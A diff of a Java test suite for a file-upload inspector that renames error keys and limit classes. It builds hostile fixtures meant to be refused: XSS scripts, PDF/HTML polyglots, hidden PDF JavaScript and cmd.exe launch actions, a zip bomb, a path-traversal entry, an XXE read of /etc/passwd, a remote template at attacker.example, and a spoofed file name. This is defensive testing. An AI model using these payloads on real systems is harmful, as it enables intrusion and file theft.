@@ -34,6 +34,12 @@ import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDOutlin
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
+import org.safeports.platform.files.FileFormat;
+import org.safeports.platform.files.FileInspector;
+import org.safeports.platform.files.FileNames;
+import org.safeports.platform.files.InspectedFile;
+import org.safeports.platform.files.UploadLimits;
+import org.safeports.platform.files.UploadRefused;
 import org.springframework.util.unit.DataSize;
 
 /**
@@ -43,8 +49,8 @@ import org.springframework.util.unit.DataSize;
  */
 class UploadCorpusTest {
 
-  static final LibraryProperties LIMITS =
-      new LibraryProperties(DataSize.ofMegabytes(2), 1000, DataSize.ofMegabytes(50), 100, 400_000);
+  static final UploadLimits LIMITS =
+      new UploadLimits(DataSize.ofMegabytes(2), 1000, DataSize.ofMegabytes(50), 100, 400_000);
   final FileInspector inspector = new FileInspector(LIMITS);
 
   static final byte[] PDF = DemoFiles.pdf("Hurricane plan", List.of("Evacuate the quay."));
@@ -85,19 +91,19 @@ class UploadCorpusTest {
 
   @Test
   void aPdfRenamedToDocxAndTheReverseAreRefused() {
-    assertThat(refusal("plan.docx", PDF)).isEqualTo("library.upload.nameMismatch");
-    assertThat(refusal("plan.pdf", DOCX)).isEqualTo("library.upload.nameMismatch");
+    assertThat(refusal("plan.docx", PDF)).isEqualTo("files.upload.nameMismatch");
+    assertThat(refusal("plan.pdf", DOCX)).isEqualTo("files.upload.nameMismatch");
   }
 
   @Test
   void htmlOrAnExecutableNamedPdfIsRefused() {
     byte[] html =
         "<html><script>alert(document.cookie)</script></html>".getBytes(StandardCharsets.UTF_8);
-    assertThat(refusal("report.pdf", html)).isEqualTo("library.upload.unknownType");
+    assertThat(refusal("report.pdf", html)).isEqualTo("files.upload.unknownType");
     byte[] exe = new byte[] {'M', 'Z', (byte) 0x90, 0, 3, 0, 0, 0};
-    assertThat(refusal("report.pdf", exe)).isEqualTo("library.upload.unknownType");
+    assertThat(refusal("report.pdf", exe)).isEqualTo("files.upload.unknownType");
     assertThat(refusal("notes.txt", "plain words".getBytes(StandardCharsets.UTF_8)))
-        .isEqualTo("library.upload.unknownType");
+        .isEqualTo("files.upload.unknownType");
   }
 
   @Test
@@ -105,7 +111,7 @@ class UploadCorpusTest {
     ByteArrayOutputStream polyglot = new ByteArrayOutputStream();
     polyglot.write(PDF);
     polyglot.write(zip(Map.of("evil.html", "<script>alert(1)</script>".getBytes())));
-    assertThat(refusal("plan.pdf", polyglot.toByteArray())).isEqualTo("library.upload.polyglot");
+    assertThat(refusal("plan.pdf", polyglot.toByteArray())).isEqualTo("files.upload.polyglot");
   }
 
   @Test
@@ -113,10 +119,10 @@ class UploadCorpusTest {
     byte[] html =
         "<html><body><script>alert(document.domain)</script></body></html>\n"
             .getBytes(StandardCharsets.US_ASCII);
-    assertThat(refusal("plan.pdf", concat(PDF, html))).isEqualTo("library.upload.polyglot");
+    assertThat(refusal("plan.pdf", concat(PDF, html))).isEqualTo("files.upload.polyglot");
     // A second end marker after the page does not make the page part of the PDF.
     byte[] markedAgain = concat(PDF, html, "%%EOF\n".getBytes(StandardCharsets.US_ASCII));
-    assertThat(refusal("plan.pdf", markedAgain)).isEqualTo("library.upload.polyglot");
+    assertThat(refusal("plan.pdf", markedAgain)).isEqualTo("files.upload.polyglot");
   }
 
   @Test
@@ -147,17 +153,17 @@ class UploadCorpusTest {
     byte[] pdf = changed(PDF, doc -> doc.getDocumentCatalog().setOpenAction(script()));
     // Saved with object streams: the action is compressed, no search of the bytes finds it.
     assertThat(new String(pdf, StandardCharsets.ISO_8859_1)).doesNotContain("JavaScript");
-    assertThat(refusal("plan.pdf", pdf)).isEqualTo("library.upload.activeContent");
+    assertThat(refusal("plan.pdf", pdf)).isEqualTo("files.upload.activeContent");
   }
 
   @Test
   void aPdfWithJavaScriptInALinkOnAPageIsRefused() throws IOException {
     byte[] pdf = changed(PDF, doc -> doc.getPage(0).getAnnotations().add(link(script())));
-    assertThat(refusal("plan.pdf", pdf)).isEqualTo("library.upload.activeContent");
+    assertThat(refusal("plan.pdf", pdf)).isEqualTo("files.upload.activeContent");
     PDActionURI javascriptLink = new PDActionURI();
     javascriptLink.setURI("javascript:alert(1)");
     byte[] linked = changed(PDF, doc -> doc.getPage(0).getAnnotations().add(link(javascriptLink)));
-    assertThat(refusal("plan.pdf", linked)).isEqualTo("library.upload.activeContent");
+    assertThat(refusal("plan.pdf", linked)).isEqualTo("files.upload.activeContent");
   }
 
   @Test
@@ -165,7 +171,7 @@ class UploadCorpusTest {
     PDActionLaunch launch = new PDActionLaunch();
     launch.setFile(new PDSimpleFileSpecification(new org.apache.pdfbox.cos.COSString("cmd.exe")));
     byte[] pdf = changed(PDF, doc -> doc.getPage(0).getAnnotations().add(link(launch)));
-    assertThat(refusal("plan.pdf", pdf)).isEqualTo("library.upload.activeContent");
+    assertThat(refusal("plan.pdf", pdf)).isEqualTo("files.upload.activeContent");
   }
 
   @Test
@@ -187,7 +193,7 @@ class UploadCorpusTest {
               names.setEmbeddedFiles(files);
               doc.getDocumentCatalog().setNames(names);
             });
-    assertThat(refusal("plan.pdf", pdf)).isEqualTo("library.upload.embeddedFile");
+    assertThat(refusal("plan.pdf", pdf)).isEqualTo("files.upload.embeddedFile");
   }
 
   @Test
@@ -204,7 +210,7 @@ class UploadCorpusTest {
             page,
             "<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>");
     assertThat(new String(hidden, StandardCharsets.US_ASCII)).doesNotContain("JavaScript");
-    assertThat(refusal("hidden.pdf", hidden)).isEqualTo("library.upload.activeContent");
+    assertThat(refusal("hidden.pdf", hidden)).isEqualTo("files.upload.activeContent");
   }
 
   @Test
@@ -289,10 +295,10 @@ class UploadCorpusTest {
   @Test
   void aTruncatedOrDamagedFileIsRefused() {
     byte[] half = java.util.Arrays.copyOf(PDF, PDF.length / 3);
-    assertThat(refusal("plan.pdf", half)).isEqualTo("library.upload.damaged");
+    assertThat(refusal("plan.pdf", half)).isEqualTo("files.upload.damaged");
     byte[] brokenZip = java.util.Arrays.copyOf(DOCX, 40);
     assertThat(refusal("plan.docx", brokenZip))
-        .isIn("library.upload.damaged", "library.upload.unknownType");
+        .isIn("files.upload.damaged", "files.upload.unknownType");
   }
 
   @Test
@@ -301,7 +307,7 @@ class UploadCorpusTest {
     parts.put("word/media/padding.bin", new byte[60 * 1024 * 1024]);
     byte[] bomb = zip(parts);
     assertThat((long) bomb.length).isLessThan(LIMITS.maxFileSize().toBytes());
-    assertThat(refusal("bomb.docx", bomb)).isEqualTo("library.upload.expandsTooMuch");
+    assertThat(refusal("bomb.docx", bomb)).isEqualTo("files.upload.expandsTooMuch");
   }
 
   @Test
@@ -328,7 +334,7 @@ class UploadCorpusTest {
     for (int i = 0; i < 1200; i++) {
       parts.put("customXml/item" + i + ".xml", "<a/>".getBytes());
     }
-    assertThat(refusal("many.docx", zip(parts))).isEqualTo("library.upload.tooManyParts");
+    assertThat(refusal("many.docx", zip(parts))).isEqualTo("files.upload.tooManyParts");
   }
 
   @Test
@@ -339,7 +345,7 @@ class UploadCorpusTest {
         document.replaceFirst(
             "\\?>", "?><!DOCTYPE w:document [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>");
     parts.put("word/document.xml", xxe.replace("Sirens", "&xxe;").getBytes(StandardCharsets.UTF_8));
-    assertThat(refusal("xxe.docx", zip(parts))).isEqualTo("library.upload.externalContent");
+    assertThat(refusal("xxe.docx", zip(parts))).isEqualTo("files.upload.externalContent");
   }
 
   @Test
@@ -352,7 +358,7 @@ class UploadCorpusTest {
             + " Target=\"http://attacker.example/template.dotm\" TargetMode=\"External\"/>"
             + "</Relationships>";
     parts.put("word/_rels/settings.xml.rels", rels.getBytes(StandardCharsets.UTF_8));
-    assertThat(refusal("template.docx", zip(parts))).isEqualTo("library.upload.externalContent");
+    assertThat(refusal("template.docx", zip(parts))).isEqualTo("files.upload.externalContent");
 
     Map<String, byte[]> linked = parts(DOCX);
     String hyperlink =
@@ -363,19 +369,19 @@ class UploadCorpusTest {
 
   @Test
   void anEmptyFileAndAnOversizeFileAreRefused() {
-    assertThat(refusal("empty.pdf", new byte[0])).isEqualTo("library.upload.empty");
+    assertThat(refusal("empty.pdf", new byte[0])).isEqualTo("files.upload.empty");
     byte[] big = new byte[(int) LIMITS.maxFileSize().toBytes() + 1];
     System.arraycopy(PDF, 0, big, 0, PDF.length);
-    assertThat(refusal("big.pdf", big)).isEqualTo("library.upload.tooLarge");
+    assertThat(refusal("big.pdf", big)).isEqualTo("files.upload.tooLarge");
   }
 
   @Test
   void aZipThatIsNoOfficeFileIsRefused() throws IOException {
     byte[] archive = zip(Map.of("readme.txt", "hello".getBytes()));
-    assertThat(refusal("archive.docx", archive)).isEqualTo("library.upload.unknownType");
+    assertThat(refusal("archive.docx", archive)).isEqualTo("files.upload.unknownType");
     byte[] escaping =
         zip(Map.of("[Content_Types].xml", "<a/>".getBytes(), "../../evil.sh", "x".getBytes()));
-    assertThat(refusal("escape.docx", escaping)).isEqualTo("library.upload.damaged");
+    assertThat(refusal("escape.docx", escaping)).isEqualTo("files.upload.damaged");
   }
 
   @ParameterizedTest
@@ -403,8 +409,8 @@ class UploadCorpusTest {
 
   @Test
   void aNameEndingInAnotherTypeIsRefused() {
-    assertThat(refusal("invoice\u202Efdp.exe", PDF)).isEqualTo("library.upload.nameMismatch");
-    assertThat(refusal("plan.pdf.html", PDF)).isEqualTo("library.upload.nameMismatch");
+    assertThat(refusal("invoice\u202Efdp.exe", PDF)).isEqualTo("files.upload.nameMismatch");
+    assertThat(refusal("plan.pdf.html", PDF)).isEqualTo("files.upload.nameMismatch");
   }
 
   @Test
@@ -430,7 +436,7 @@ class UploadCorpusTest {
       pdf.protect(policy);
       pdf.save(out);
       assertThat(refusal("locked.pdf", out.toByteArray()))
-          .isEqualTo("library.upload.passwordProtected");
+          .isEqualTo("files.upload.passwordProtected");
     }
   }
 
